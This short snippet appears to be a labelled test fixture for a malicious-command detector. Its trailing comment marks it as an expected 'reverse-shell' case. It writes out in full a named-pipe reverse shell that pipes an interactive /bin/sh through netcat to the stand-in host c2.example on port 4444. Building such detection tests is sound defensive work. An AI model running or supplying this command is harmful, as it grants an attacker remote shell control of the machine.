rm -f /tmp/f
mkfifo /tmp/f
cat /tmp/f | /bin/sh -i 2>&1 | nc c2.example 4444 > /tmp/f # expect: malicious-command/reverse-shell
